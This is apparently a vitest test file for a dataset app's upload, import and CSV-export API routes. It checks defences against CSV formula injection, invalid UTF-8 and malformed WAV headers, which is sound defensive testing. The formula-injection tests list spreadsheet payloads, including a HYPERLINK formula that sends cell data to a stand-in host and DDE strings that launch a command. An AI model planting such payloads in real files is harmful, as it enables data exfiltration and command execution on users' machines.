import { describe, expect, it, beforeAll } from "vitest";
import { POST as createProjectRoute } from "@/app/api/projects/route";
import { POST as uploadRoute } from "@/app/api/projects/[id]/uploads/route";
import { POST as importRoute } from "@/app/api/projects/[id]/imports/route";
import { GET as exportRoute } from "@/app/api/projects/[id]/dataset/export/route";
import { encodeWav } from "@/lib/data/audio";
import { db } from "@/lib/server/db";
import { call, signUp } from "@/tests/route-helpers";

let owner: { cookie: string };

async function project(scene: string, modelType: string, interfaces: string[]) {
  const r = await call(createProjectRoute, { body: { name: `formats-${Math.random()}`, scene, modelType, interfaces }, cookie: owner.cookie });
  expect(r.status).toBe(201);
  return r.json.project.id as string;
}

function upload(id: string, bytes: Uint8Array | string, name: string, label?: string) {
  const q = new URLSearchParams({ name, ...(label ? { label } : {}) });
  return call(uploadRoute, {
    rawBody: typeof bytes === "string" ? bytes : new Blob([bytes as BlobPart]),
    headers: { "content-type": "application/octet-stream" },
    cookie: owner.cookie,
    params: { id },
    url: `http://localhost:3000/api/projects/${id}/uploads?${q}`,
  });
}

async function uploadAndImport(id: string, text: string, name: string, mapping?: Record<string, unknown>) {
  const pre = await upload(id, text, name);
  expect(pre.status, JSON.stringify(pre.json)).toBe(200);
  const imp = await call(importRoute, { body: { uploadId: pre.json.uploadId, mapping: mapping ?? pre.json.mapping }, cookie: owner.cookie, params: { id } });
  expect(imp.status, JSON.stringify(imp.json)).toBe(201);
  return imp;
}

async function exported(id: string): Promise<string[][]> {
  const r = await call(exportRoute, { method: "GET", cookie: owner.cookie, params: { id } });
  expect(r.status).toBe(200);
  expect(r.res.headers.get("content-disposition")).toMatch(/^attachment/);
  return readCsv((await r.res.text()).replace(/^\uFEFF/, ""));
}

/** RFC 4180 as a spreadsheet reads it (quoted cells may hold commas, quotes, CR and LF); kept here so the check does not lean on the code under test. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") row.push(cell), (cell = "");
    else if (ch === "\r" && text[i + 1] === "\n") row.push(cell), rows.push(row), (row = []), (cell = ""), i++;
    else cell += ch;
  }
  if (cell !== "" || row.length) row.push(cell), rows.push(row);
  return rows;
}

const DANGEROUS = /^[=+\-@\t\r]/;

beforeAll(async () => {
  owner = await signUp();
});

describe("formula injection on CSV export", () => {
  const payloads = ["=HYPERLINK(\"http://evil.example?\"&A1,\"x\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1"];

  it("text, label and reply cells starting with = + - @ (and tab / CR from a JSONL upload) come back prefixed with a quote", async () => {
    const id = await project("intent-chatbot", "ngram-bag", ["chat"]);
    const csv = ["text,label,reply", ...payloads.map((p, i) => `"${p.replace(/"/g, '""')}",${["=label", "+label", "-label", "@label", "safe"][i]},"${payloads[(i + 1) % payloads.length].replace(/"/g, '""')}"`)].join("\n");
    await uploadAndImport(id, csv, "formulas.csv");
    const jsonl = ['{"text": "\\t=1+2", "label": "tabbed"}', '{"text": "\\r=3+4", "label": "tabbed"}', '{"text": "\\u0000=5", "label": "tabbed"}'].join("\n");
    await uploadAndImport(id, jsonl, "formulas.jsonl", { kind: "text", text: "text", label: "label" });
    const rows = await exported(id);
    expect(rows[0]).toEqual(["text", "label", "reply"]);
    const cells = rows.slice(1).flat();
    expect(cells.length).toBeGreaterThan(10);
    for (const cell of cells) expect(cell, JSON.stringify(cell)).not.toMatch(DANGEROUS);
    for (const p of payloads) expect(cells).toContain(`'${p}`);
    expect(cells).toEqual(expect.arrayContaining(["'=label", "'+label", "'-label", "'@label", "safe"]));
  });

  it("tabular and FAQ exports too; negative numbers stay numbers", async () => {
    const tab = await project("tabular-prediction", "mlp", ["api"]);
    const rows = ["amount,note,kind", ...Array.from({ length: 8 }, (_, i) => `${i % 2 ? -5 - i : 3 + i},"${payloads[i % payloads.length].replace(/"/g, '""')}",${i % 2 ? "=odd" : "even"}`)].join("\n");
    await uploadAndImport(tab, rows, "table.csv", { kind: "tabular", target: "kind", features: ["amount", "note"] });
    const t = await exported(tab);
    const body = t.slice(1);
    for (const cell of body.flatMap((r) => r.slice(1))) expect(cell).not.toMatch(DANGEROUS);
    expect(body.map((r) => r[0])).toEqual(expect.arrayContaining(["-6", "3"]));

    const faq = await project("faq-retrieval", "bm25", ["chat"]);
    const faqCsv = ["question,answer,paraphrases", `"=1+1","@answer","-para | +para"`, `"how do I pay?","+31 20 123 4567","ok"`].join("\n");
    await uploadAndImport(faq, faqCsv, "faq.csv", { kind: "faq", question: "question", answer: "answer", paraphrases: ["paraphrases"] });
    for (const cell of (await exported(faq)).slice(1).flat()) expect(cell).not.toMatch(DANGEROUS);
  });
});

describe("text encodings", () => {
  it("invalid UTF-8 (stray continuation bytes, overlong forms, encoded surrogates, 0xFF) is decoded with a flagged guess or refused, never a 500", async () => {
    const id = await project("text-classification", "ngram-bag", ["chat"]);
    const variants: [string, number[]][] = [
      ["stray.csv", [0x80, 0x81]],
      ["overlong.csv", [0xc0, 0xaf, 0xe0, 0x80, 0xaf]],
      ["surrogate.csv", [0xed, 0xa0, 0x80]],
      ["ff.csv", [0xff, 0xfe, 0xfd]],
      ["cut.csv", [0xe4, 0xbd]],
    ];
    for (const [name, bad] of variants) {
      const bytes = Uint8Array.from([...Buffer.from("text,label\nhello "), ...bad, ...Buffer.from(" there,greeting\nbye now,farewell\n")]);
      const r = await upload(id, bytes, name);
      expect([200, 422], name).toContain(r.status);
      if (r.status === 200) {
        expect(r.json.encoding, name).not.toBe("utf-8");
        expect(r.json.rows, name).toHaveLength(2);
        expect(r.json.rows[1], name).toEqual(["bye now", "farewell"]);
      }
    }
    // NUL bytes mean binary: refused with a plain message.
    const nul = await upload(id, Uint8Array.from([...Buffer.from("text,label\n"), 0, 0, 0, 0, 1, 2, 0, 0, ...Buffer.from("x,y\n")]), "nul.csv");
    expect(nul.status).toBe(422);
  });
});

/** A WAV file with a hand-written header (every field may lie). */
function wav(o: { format?: number; channels?: number; rate?: number; bits?: number; blockAlign?: number; fmtSize?: number; data?: number; dataSize?: number; junkChunks?: number }) {
  const channels = o.channels ?? 1;
  const bits = o.bits ?? 16;
  const rate = o.rate ?? 16000;
  const blockAlign = o.blockAlign ?? channels * (bits / 8);
  const dataBytes = o.data ?? 320;
  const b = Buffer.alloc(12 + 8 * (o.junkChunks ?? 0) + 8 + 16 + 8 + dataBytes);
  let p = 0;
  const str = (s: string) => ((p += b.write(s, p, "latin1")), undefined);
  const u32 = (n: number) => ((p = b.writeUInt32LE(n >>> 0, p)), undefined);
  const u16 = (n: number) => ((p = b.writeUInt16LE(n & 0xffff, p)), undefined);
  str("RIFF");
  u32(b.length - 8);
  str("WAVE");
  for (let i = 0; i < (o.junkChunks ?? 0); i++) {
    str("JUNK");
    u32(0);
  }
  str("fmt ");
  u32(o.fmtSize ?? 16);
  u16(o.format ?? 1);
  u16(channels);
  u32(rate);
  u32(rate * blockAlign);
  u16(blockAlign);
  u16(bits);
  str("data");
  u32(o.dataSize ?? dataBytes);
  return new Uint8Array(b);
}

describe("absurd WAV headers through POST /api/projects/:id/uploads", () => {
  it("huge sizes, zero channels, absurd sample rates and bit depths are refused by name, nothing stored; a real clip still works", async () => {
    const id = await project("voice-commands", "speech-embedding", ["buttons"]);
    const cases: [string, Uint8Array][] = [
      ["huge-data.wav", wav({ dataSize: 0x7ffffff0 })],
      ["huge-fmt.wav", wav({ fmtSize: 0xfffffff0 })],
      ["no-channels.wav", wav({ channels: 0, blockAlign: 2 })],
      ["many-channels.wav", wav({ channels: 65535, data: 64 })],
      ["zero-rate.wav", wav({ rate: 0 })],
      ["huge-rate.wav", wav({ rate: 0xffffffff })],
      ["one-hertz.wav", wav({ rate: 1, data: 400 })], // 200 s of audio: over the clip limit
      ["zero-bits.wav", wav({ bits: 0, blockAlign: 2 })],
      ["odd-bits.wav", wav({ bits: 7, blockAlign: 1 })],
      ["lying-align.wav", wav({ blockAlign: 4096 })],
      ["float-16.wav", wav({ format: 3, bits: 16 })],
      ["mp3-in-wav.wav", wav({ format: 0x55 })],
      ["header-only.wav", wav({ data: 0, dataSize: 1000 })],
    ];
    for (const [name, bytes] of cases) {
      const r = await upload(id, bytes, name, "yes");
      expect(r.status, `${name}: ${JSON.stringify(r.json)}`).toBe(422);
      expect(JSON.stringify(r.json.issues ?? r.json.error), name).toContain(name);
    }
    expect(await db.sample.count({ where: { dataset: { projectId: id } } })).toBe(0);
    const many = await upload(id, wav({ junkChunks: 20_000 }), "junk.wav", "yes");
    expect([201, 422]).toContain(many.status);
    const real = await upload(id, encodeWav(new Float32Array(8000).map((_, i) => Math.sin(i / 10) * 0.5), 16000), "real.wav", "yes");
    expect(real.status).toBe(201);
  });
});
